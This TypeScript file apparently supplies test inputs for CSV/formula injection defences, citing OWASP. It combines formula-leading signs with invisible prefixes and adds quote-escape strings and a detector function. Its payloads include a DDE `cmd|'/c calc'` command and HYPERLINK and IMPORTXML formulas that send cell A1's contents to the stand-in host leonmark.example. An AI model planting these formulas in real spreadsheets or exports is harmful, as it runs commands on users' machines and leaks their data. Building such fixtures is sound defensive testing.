/**
 * Cells that a spreadsheet would run, take apart or read as another one's (OWASP, "CSV Injection"): each sign a formula may
 * begin with, behind whatever is stripped first, and ways out of a quoted cell.
 */
const beginnings = ['=', '+', '-', '@', '|', '＝', '＋', '－', '＠', '｜', '−'];
const stripped = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00A0',
  '\u200B',
  '\uFEFF',
  '\u202E',
  '\u0000',
  '  \t ',
];
const formulas = [
  "cmd|'/c calc'!A1",
  'HYPERLINK("http://leonmark.example?"&A1,"klik")',
  "IMPORTXML(CONCAT('http://leonmark.example?';A1);'//a')",
  '1+1',
];
const wayOut = [
  '";=1+1;"',
  '"\r\n=1+1;"',
  '"\n"=1+1"',
  '",=1+1,"',
  '""=1+1""',
  "';=1+1",
  'a;b;=1+1',
  'a,b,=1+1',
  'a\tb\t=1+1',
  'linje\n=1+1',
  'linje\r=1+1',
  '\\";=1+1',
];

export const hostileCells: readonly string[] = [
  ...beginnings.flatMap((sign) =>
    stripped.flatMap((before) => formulas.map((formula) => before + sign + formula)),
  ),
  ...wayOut,
  '',
  '"',
  '""',
  "'",
];

/** What a spreadsheet would begin to reckon with, once it has stripped what it strips. */
export function wouldRun(cell: string): boolean {
  const first = cell.replace(/^[\s\p{Cf}\p{Cc}]+/u, '')[0] ?? '';
  return beginnings.includes(first) || /^[\t\r\n]/.test(cell);
}
